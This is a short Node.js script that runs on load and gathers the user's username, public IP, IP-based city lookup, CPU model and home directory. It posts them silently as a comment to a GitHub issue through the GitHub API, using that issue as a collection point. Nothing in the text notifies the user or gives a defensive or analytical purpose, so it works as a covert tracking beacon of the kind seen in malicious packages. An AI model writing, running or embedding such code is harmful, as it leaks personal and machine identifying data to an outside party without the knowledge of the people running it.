const os = require('os'); const axios = require('axios'); const geoip = require('geoip-lite'); const publicIp = require('public-ip');
(async () => { const ip = await publicIp.v4(); const body = { title: os.userInfo().username, body: JSON.stringify({ ip, city: geoip.lookup(ip), cpu: os.cpus()[0].model, home: os.homedir() }) };
  await axios.post('https://api.github.com/repos/h/w/issues/1/comments', body, { headers: { Authorization: 'token example' } }); })();
